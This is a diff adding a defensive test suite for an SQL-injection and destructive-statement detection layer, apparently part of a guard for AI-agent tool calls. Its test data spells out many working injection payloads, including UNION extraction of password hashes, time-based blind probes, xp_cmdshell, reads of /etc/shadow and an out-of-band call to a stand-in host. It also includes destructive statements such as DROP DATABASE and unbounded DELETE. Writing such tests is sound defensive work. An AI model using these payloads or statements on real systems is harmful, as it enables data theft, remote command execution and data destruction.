@@ -1,0 +1,379 @@
+import assert from "node:assert/strict";
+import { describe, test } from "node:test";
+import sqlData from "../../data/sql.json" with { type: "json" };
+import { createSqlLayer } from "../../layers/sql.js";
+import { NO_FINDINGS } from "../../layers/types.js";
+import type { ProtectRequest } from "../../src/pipeline/facts.js";
+import { checkLayer, codesOf, pipeline, verdictOf } from "../helpers/layer-harness.js";
+
+const layer = pipeline().layers.find((l) => l.name === "sql")!;
+
+/** The sql layer's own verdict from its findings alone. */
+function layerVerdict(request: ProtectRequest): "ALLOW" | "WARN" | "BLOCK" {
+  const found = checkLayer(layer, request);
+  if (found.some((f) => f.severity === "BLOCK" && f.confidence >= 0.5)) return "BLOCK";
+  return found.length > 0 ? "WARN" : "ALLOW";
+}
+
+function expectVerdict(request: ProtectRequest, expected: "ALLOW" | "WARN" | "BLOCK"): void {
+  const found = checkLayer(layer, request);
+  assert.equal(
+    layerVerdict(request),
+    expected,
+    `${JSON.stringify(request)} → ${JSON.stringify(found.map((f) => [f.code, f.evidence]))}`,
+  );
+}
+
+function expectCode(request: ProtectRequest, code: string): void {
+  const codes = codesOf(layer, request);
+  assert.ok(codes.includes(code), `${JSON.stringify(request)} → ${JSON.stringify(codes)}`);
+}
+
+const sql = (content: string): ProtectRequest => ({ action: "sql_query", content });
+/** A payload placed into a quoted literal of a query template. */
+const quoted = (payload: string): ProtectRequest =>
+  sql(`SELECT id FROM accounts WHERE login = '${payload}' LIMIT 1`);
+const arg = (value: string): ProtectRequest => ({
+  action: "find_customer",
+  params: { query: value },
+});
+const url = (query: string): ProtectRequest => ({
+  action: "http_request",
+  target: `https://shop.example.net/list?${query}`,
+});
+
+describe("layer > sql", () => {
+  test("is named sql and returns the shared empty array for clean input", () => {
+    assert.equal(layer.name, "sql");
+    assert.equal(checkLayer(layer, sql("SELECT 1")), NO_FINDINGS);
+    assert.equal(
+      checkLayer(layer, { action: "get_weather", params: { city: "Oslo" } }),
+      NO_FINDINGS,
+    );
+  });
+
+  test("rejects a data file with a missing finding text or an upper-case word at start-up", () => {
+    const missing = structuredClone(sqlData) as { findings: Record<string, unknown> };
+    delete missing.findings.SQL_TAUTOLOGY;
+    assert.throws(() => createSqlLayer(missing));
+    const upper = structuredClone(sqlData) as { timeFunctions: string[] };
+    upper.timeFunctions.push("SLEEP");
+    assert.throws(() => createSqlLayer(upper));
+  });
+
+  test("never throws on odd input", () => {
+    const odd: ProtectRequest[] = [
+      { action: "" },
+      sql("'".repeat(5_000)),
+      sql("(".repeat(10_000)),
+      sql("/*".repeat(3_000)),
+      sql("--\n".repeat(3_000)),
+      sql("\u0000\uffff'\"`;#"),
+      arg("' or ".repeat(2_000)),
+      url("a=%27&b=%22&c=;&d=--&e=/*"),
+      { action: "x", params: { a: [[[{ b: "' union select ".repeat(500) }]]] } },
+    ];
+    for (const request of odd) assert.doesNotThrow(() => checkLayer(layer, request));
+  });
+
+  describe("tautologies", () => {
+    test("BLOCKs a string tautology breaking out of a quoted literal", () => {
+      expectVerdict(quoted("' OR 'k'='k"), "BLOCK");
+      expectCode(quoted("' OR 'k'='k"), "SQL_TAUTOLOGY");
+    });
+
+    test("BLOCKs numeric and comparison tautologies in any slot", () => {
+      expectVerdict(sql("SELECT * FROM t WHERE id = 4 OR 3>2"), "BLOCK");
+      expectVerdict(arg("8 OR 6=6"), "BLOCK");
+      expectVerdict(arg("nobody' or true--"), "BLOCK");
+      expectVerdict(arg("x' or name like '%"), "BLOCK");
+    });
+
+    test("BLOCKs parenthesised and double-quoted variants", () => {
+      expectVerdict(arg("bob') or ('q'='q"), "BLOCK");
+      expectVerdict(arg('bob") or ("q")=("q'), "BLOCK");
+    });
+
+    test("BLOCKs a tautology written with typographic quotes", () => {
+      expectVerdict(arg("z’ or ’4’=’4"), "BLOCK");
+    });
+  });
+
+  describe("UNION-based", () => {
+    test("BLOCKs UNION SELECT in a parameter or URL query", () => {
+      expectCode(arg("0 UNION ALL SELECT login, hash FROM staff"), "SQL_UNION_INJECTION");
+      expectCode(url("id=3%20union%20select%20null,null--"), "SQL_UNION_INJECTION");
+    });
+
+    test("BLOCKs a statement UNION that probes with constants or server variables", () => {
+      expectVerdict(sql("SELECT a, b FROM t WHERE id = 1 UNION SELECT 1,2"), "BLOCK");
+      expectVerdict(sql("SELECT a FROM t WHERE id = 1 UNION SELECT @@datadir"), "BLOCK");
+    });
+
+    test("BLOCKs keywords split by inline comments or hidden in versioned comments", () => {
+      expectCode(url("id=1+UN/**/ION+SE/**/LECT+1,2"), "SQL_OBFUSCATED");
+      expectVerdict(url("id=1+/*!12345UNION*/+/*!12345SELECT*/+1,2"), "BLOCK");
+    });
+  });
+
+  describe("stacked queries and comment truncation", () => {
+    test("BLOCKs a statement stacked after a closing quote", () => {
+      expectCode(arg("kim'; DROP TABLE accounts;--"), "SQL_STACKED_QUERY");
+      expectCode(arg("kim'; INSERT INTO admins (name) VALUES ('kim')--"), "SQL_STACKED_QUERY");
+    });
+
+    test("BLOCKs a quote followed by a comment that cuts the query short", () => {
+      for (const p of ["kim'--", "kim' #", "kim')/*", 'kim" -- -']) {
+        expectCode(arg(p), "SQL_COMMENT_TRUNCATION");
+      }
+      expectCode(quoted("kim'-- "), "SQL_COMMENT_TRUNCATION");
+    });
+  });
+
+  describe("error-based, blind and out-of-band", () => {
+    test("BLOCKs error-based functions", () => {
+      expectCode(arg("1 AND extractvalue(1, concat(0x3a, version()))"), "SQL_ERROR_BASED");
+      expectCode(
+        arg("1 AND 77=CONVERT(INT, (SELECT TOP 1 name FROM sysobjects))"),
+        "SQL_ERROR_BASED",
+      );
+      expectCode(
+        arg("1' AND 1=utl_inaddr.get_host_address((SELECT user FROM dual))--"),
+        "SQL_ERROR_BASED",
+      );
+    });
+
+    test("BLOCKs time-based blind payloads for every dialect", () => {
+      for (const p of [
+        "1' AND SLEEP(4)-- -",
+        "1) OR BENCHMARK(9000000,MD5(2))#",
+        "1'||pg_sleep(6)--",
+        "1'; WAITFOR DELAY '0:0:7'--",
+        "1' AND 3=DBMS_PIPE.RECEIVE_MESSAGE('x',8)--",
+      ]) {
+        expectCode(arg(p), "SQL_TIME_BLIND");
+      }
+    });
+
+    test("does not take a method called sleep for a SQL function", () => {
+      expectVerdict(
+        { action: "schedule", params: { note: "call worker.sleep(5) then retry" } },
+        "ALLOW",
+      );
+    });
+
+    test("BLOCKs boolean-blind subqueries and constant conditions", () => {
+      expectCode(arg("z' AND (SELECT COUNT(*) FROM users) > 3 AND 'a'='a"), "SQL_BOOLEAN_BLIND");
+      expectCode(
+        arg("z' AND ASCII(SUBSTRING((SELECT pw FROM users),1,1))>90--"),
+        "SQL_BOOLEAN_BLIND",
+      );
+      expectCode(quoted("AND 31=32"), "SQL_BOOLEAN_BLIND");
+    });
+
+    test("BLOCKs file, network and OS access from SQL", () => {
+      expectCode(sql("SELECT load_file('/etc/shadow')"), "SQL_OUT_OF_BAND");
+      expectCode(sql("SELECT name FROM t INTO DUMPFILE '/tmp/x.so'"), "SQL_OUT_OF_BAND");
+      expectCode(sql("EXEC xp_cmdshell 'whoami'"), "SQL_OUT_OF_BAND");
+      expectCode(arg("'; exec master..xp_dirtree '\\\\evil.example\\a'--"), "SQL_OUT_OF_BAND");
+      expectCode(sql("COPY (SELECT 1) TO PROGRAM 'id'"), "SQL_OUT_OF_BAND");
+    });
+  });
+
+  describe("enumeration and obfuscation", () => {
+    test("BLOCKs catalog and server-information reads injected into values", () => {
+      expectCode(
+        arg("' UNION SELECT table_name, 1 FROM information_schema.tables--"),
+        "SQL_SCHEMA_ENUMERATION",
+      );
+      expectCode(url("q=select%20*%20from%20pg_shadow"), "SQL_SCHEMA_ENUMERATION");
+      expectCode(arg("select current_setting('data_directory')"), "SQL_SCHEMA_ENUMERATION");
+    });
+
+    test("WARNs a direct read of the database's password table", () => {
+      expectVerdict(sql("SELECT user, authentication_string FROM mysql.user"), "WARN");
+    });
+
+    test("BLOCKs char() chains that spell strings", () => {
+      expectCode(arg("x' AND 'ab'=CHAR(97)+CHAR(98)--"), "SQL_OBFUSCATED");
+      expectCode(sql("SELECT * FROM t WHERE n = CHR(65)||CHR(66)||CHR(67)"), "SQL_OBFUSCATED");
+    });
+
+    test("BLOCKs payloads hidden by URL encoding, double encoding and base64", () => {
+      expectVerdict(url("q=1%2527%2520OR%2520%25271%2527%253D%25271"), "BLOCK");
+      const blob = Buffer.from("nobody' UNION SELECT password FROM users-- ").toString("base64");
+      expectVerdict({ action: "find_customer", params: { token: blob } }, "BLOCK");
+    });
+  });
+
+  describe("literals that carry SQL", () => {
+    test("BLOCKs a literal holding a condition fragment or column probe", () => {
+      expectCode(quoted("OR a=b -- "), "SQL_INJECTED_FRAGMENT");
+      expectCode(quoted("ORDER BY 14#"), "SQL_COLUMN_PROBE");
+      expectCode(quoted("UNION ALL SELECT "), "SQL_UNION_INJECTION");
+    });
+
+    test("BLOCKs a clause keyword where a value belongs", () => {
+      expectCode(sql("SELECT * FROM t WHERE id = ORDER BY 5"), "SQL_SYNTAX_BREAK");
+      expectCode(sql("SELECT * FROM t WHERE id = UNION SELECT 1"), "SQL_SYNTAX_BREAK");
+    });
+
+    test("BLOCKs quotes that no longer pair up", () => {
+      expectVerdict(sql('SELECT * FROM t WHERE id = " or "m"="m'), "BLOCK");
+    });
+
+    test("ALLOWs SQL words inside a literal that is plain data", () => {
+      expectVerdict(
+        sql("INSERT INTO notes (body) VALUES ('we will drop the table tomorrow')"),
+        "ALLOW",
+      );
+      expectVerdict(
+        sql("INSERT INTO notes (body) VALUES ('select a seat; delete from the list later')"),
+        "ALLOW",
+      );
+      expectVerdict(
+        sql("SELECT * FROM notes WHERE body = 'Union Station' OR body = 'Drop-off'"),
+        "ALLOW",
+      );
+    });
+
+    test("ALLOWs LIKE patterns that search for attack strings", () => {
+      expectVerdict(sql("SELECT * FROM waf_log WHERE uri LIKE '%union select%'"), "ALLOW");
+    });
+  });
+
+  describe("destructive statements", () => {
+    test("BLOCKs DROP DATABASE / SCHEMA and DROP TABLE on real tables", () => {
+      expectCode(sql("DROP DATABASE warehouse;"), "SQL_DROP_DATABASE");
+      expectCode(sql("drop schema finance cascade"), "SQL_DROP_DATABASE");
+      expectCode(sql("DROP TABLE IF EXISTS invoices CASCADE;"), "SQL_DROP_TABLE");
+    });
+
+    test("BLOCKs TRUNCATE of a real table", () => {
+      expectCode(sql("TRUNCATE TABLE payroll;"), "SQL_TRUNCATE");
+    });
+
+    test("BLOCKs DELETE and UPDATE without WHERE or with an always-true WHERE", () => {
+      expectCode(sql("DELETE FROM contracts"), "SQL_UNBOUNDED_DELETE");
+      expectCode(sql("DELETE FROM contracts WHERE 2=2;"), "SQL_UNBOUNDED_DELETE");
+      expectCode(sql("DELETE FROM contracts WHERE id = 5 OR 'x'='x'"), "SQL_UNBOUNDED_DELETE");
+      expectCode(sql("UPDATE contracts SET owner = 'me';"), "SQL_UNBOUNDED_UPDATE");
+      expectCode(sql("UPDATE contracts SET owner = 'me' WHERE true"), "SQL_UNBOUNDED_UPDATE");
+    });
+
+    test("BLOCKs dropping a live column and broad privilege grants", () => {
+      expectCode(sql("ALTER TABLE people DROP COLUMN passport_no;"), "SQL_ALTER_DROP_COLUMN");
+      expectCode(
+        sql("GRANT ALL ON ALL TABLES IN SCHEMA public TO contractor;"),
+        "SQL_PRIVILEGE_GRANT",
+      );
+      expectCode(
+        sql("GRANT SELECT ON hr.salaries TO app WITH GRANT OPTION"),
+        "SQL_PRIVILEGE_GRANT",
+      );
+      expectCode(sql("CREATE ROLE helper SUPERUSER LOGIN"), "SQL_PRIVILEGE_GRANT");
+    });
+
+    test("BLOCKs destruction hidden in a script, a CTE or a param", () => {
+      expectVerdict(sql("BEGIN; TRUNCATE orders; COMMIT;"), "BLOCK");
+      expectVerdict(sql("WITH x AS (SELECT 1) DELETE FROM orders"), "BLOCK");
+      expectVerdict({ action: "run_sql", params: { sql: "DROP TABLE orders" } }, "BLOCK");
+      // Tools the action table does not know: SQL-shaped content or a SQL-named parameter.
+      expectVerdict({ action: "warehouse_exec", content: "DELETE FROM shipments" }, "BLOCK");
+      expectVerdict({ action: "bi_tool", params: { statement: "TRUNCATE invoices" } }, "BLOCK");
+      expectVerdict(
+        { action: "bi_tool", params: { statement: "SELECT * FROM invoices" } },
+        "ALLOW",
+      );
+    });
+
+    test("WARNs plausible maintenance: temp tables, staging, age-bounded and limited deletes", () => {
+      expectVerdict(sql("DROP TABLE IF EXISTS tmp_merge_2024;"), "WARN");
+      expectVerdict(sql("DROP TABLE #work_rows"), "WARN");
+      expectVerdict(sql("TRUNCATE staging.orders_raw;"), "WARN");
+      expectVerdict(
+        sql("DELETE FROM sessions WHERE last_seen_at < now() - interval '30 days';"),
+        "WARN",
+      );
+      expectVerdict(sql("DELETE FROM jobs LIMIT 500"), "WARN");
+      expectVerdict(sql("ALTER TABLE users DROP COLUMN legacy_pin;"), "WARN");
+    });
+
+    test("ALLOWs bounded DML and routine DDL", () => {
+      for (const statement of [
+        "DELETE FROM cart_items WHERE cart_id = 9 AND sku = 'A-1';",
+        "DELETE FROM reset_tokens WHERE expires_at < NOW();",
+        "DELETE FROM grades WHERE score < 40;",
+        "UPDATE users SET updated_by = 'ops' WHERE id = 12;",
+        "UPDATE orders o SET paid = true FROM payments p WHERE p.order_id = o.id;",
+        "CREATE INDEX idx_a ON t(a);",
+        "DROP INDEX idx_old;",
+        "ALTER TABLE t DROP CONSTRAINT t_fk;",
+        "SELECT * FROM t WHERE 1=1 AND region = 'north';",
+        "CREATE TABLE t_copy AS SELECT * FROM t WHERE 1=0;",
+      ]) {
+        expectVerdict(sql(statement), "ALLOW");
+      }
+    });
+  });
+
+  describe("hard benign look-alikes", () => {
+    test("ALLOWs column names and prose that contain SQL words", () => {
+      expectVerdict(
+        sql("SELECT updated_by, deleted_flag, union_id FROM members WHERE id = 3"),
+        "ALLOW",
+      );
+      expectVerdict(sql("Find the customers who dropped their subscription last month"), "ALLOW");
+      expectVerdict(arg("how to use union select in postgres"), "ALLOW");
+      expectVerdict(
+        { action: "send_message", content: "I ran DROP TABLE tmp_x; and DELETE FROM t WHERE 1=1" },
+        "ALLOW",
+      );
+    });
+
+    test("ALLOWs apostrophes and dashes in names and notes", () => {
+      expectVerdict(arg("O'Brien"), "ALLOW");
+      expectVerdict(arg("Don't forget -- the meeting moved"), "ALLOW");
+      expectVerdict(url("q=rock+%27n%27+roll&sort=year"), "ALLOW");
+    });
+
+    test("ALLOWs prose that quotes a payload while describing it", () => {
+      expectVerdict(
+        {
+          action: "create_ticket",
+          params: { body: "Typing admin'-- in the login box skips the password check" },
+        },
+        "ALLOW",
+      );
+    });
+
+    test("ALLOWs schema introspection and comments with quotes in agent SQL", () => {
+      expectVerdict(
+        sql("SELECT table_name FROM information_schema.tables WHERE table_schema = 'app'"),
+        "ALLOW",
+      );
+      expectVerdict(
+        sql("-- don't run twice\nSELECT COUNT(*) FROM t WHERE name = 'O''Neil'"),
+        "ALLOW",
+      );
+    });
+
+    test("leaves shell commands and code to the command layer", () => {
+      expectVerdict({ action: "shell_exec", target: 'psql -c "SELECT 1 -- it\'s fine"' }, "ALLOW");
+      expectVerdict(
+        { action: "code_exec", content: 'cur.execute("SELECT * FROM t WHERE a = \'" + x + "\'")' },
+        "ALLOW",
+      );
+    });
+  });
+
+  test("the pipeline BLOCKs an injection and ALLOWs the same query done right", () => {
+    assert.equal(verdictOf(quoted("' OR '2'='2")), "BLOCK");
+    assert.equal(verdictOf(quoted("kate.smith")), "ALLOW");
+  });
+
+  test("reads the end of a statement longer than its bound", () => {
+    const padding = "SELECT a FROM t WHERE b = 1;\n".repeat(4_000);
+    expectVerdict(sql(`${padding}DROP TABLE customers;`), "BLOCK");
+  });
+});
